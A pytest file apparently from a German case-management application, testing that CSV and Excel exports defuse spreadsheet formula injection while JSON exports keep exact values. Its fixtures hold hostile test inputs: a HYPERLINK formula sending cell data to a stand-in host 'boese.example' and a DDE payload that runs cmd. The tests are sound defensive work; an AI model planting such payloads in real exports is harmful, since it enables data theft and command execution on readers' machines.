"""A name like =HYPERLINK(…) must not become a live formula when an exported list is opened
in a spreadsheet (OWASP: CSV injection). JSON stays exact data."""

import io
import json

import pytest
from openpyxl import load_workbook

from interop.factories import person_with_history
from wegweiser.interop.formulas import csv_cells, unquoted
from wegweiser.interop.services import import_file

FORMULA = '=HYPERLINK("http://boese.example/?a="&A1;"Akte öffnen")'


def export(client, fmt: str) -> bytes:
    return b"".join(client.get(f"/faelle/export.{fmt}").streaming_content)


@pytest.fixture
def dangerous_person(caseworker):
    return person_with_history(
        caseworker.authority, family_name=FORMULA, given_names="@SUMME(1+1)",
        name_variants="+49 2351 1234", facts_note="-2+3+cmd|' /C calc'!A0")


@pytest.mark.parametrize("value", [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\uff1d1+1"])
def test_a_cell_that_starts_a_formula_gets_a_leading_quote(value):
    assert csv_cells([value]) == ["'" + value]


@pytest.mark.parametrize("value", ["-5", "+3,5", "-0.25", "Haddad", "", "01.01.2018", 7, -3])
def test_plain_numbers_and_ordinary_text_stay_as_they_are(value):
    assert csv_cells([value]) == [value]


def test_the_import_removes_only_the_quote_the_export_added():
    assert unquoted("'=1+1") == "=1+1"
    assert unquoted("'-5") == "'-5"  # the export never quotes a plain number
    assert unquoted("O'Brien") == "O'Brien"


def test_the_csv_export_quotes_every_dangerous_cell(client, caseworker, dangerous_person):
    client.force_login(caseworker)

    text = export(client, "csv").decode("utf-8-sig")

    assert ";\"'" + FORMULA.replace('"', '""') + '"' in text
    assert ";'@SUMME(1+1);" in text
    assert ";'+49 2351 1234;" in text
    assert "'-2+3+cmd" in text


def test_the_excel_export_writes_them_as_text_never_as_formulas(
        client, caseworker, dangerous_person):
    client.force_login(caseworker)

    sheet = load_workbook(io.BytesIO(export(client, "xlsx"))).active
    header = [c.value for c in sheet[1]]
    row = {name: cell for name, cell in zip(header, sheet[2], strict=True)}

    for column, value in [("Familienname", FORMULA), ("Vornamen", "@SUMME(1+1)"),
                          ("Namensvarianten", "+49 2351 1234")]:
        assert row[column].value == value  # exact, without a visible quote
        assert row[column].data_type == "s"
        assert row[column].quotePrefix
    assert not any(cell.data_type == "f" for line in sheet.iter_rows() for cell in line)


def test_the_json_export_keeps_the_exact_value(client, caseworker, dangerous_person):
    client.force_login(caseworker)

    case = json.loads(export(client, "json"))["cases"][0]

    assert case["family_name"] == FORMULA
    assert case["given_names"] == "@SUMME(1+1)"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_exported_list_imports_back_unchanged(client, caseworker, head, dangerous_person,
                                                 fmt):
    client.force_login(caseworker)

    outcome = import_file(export(client, fmt), f"export.{fmt}", head.authority, head)

    assert outcome.ok, outcome.report()
    assert outcome.counts.persons_unchanged == 1
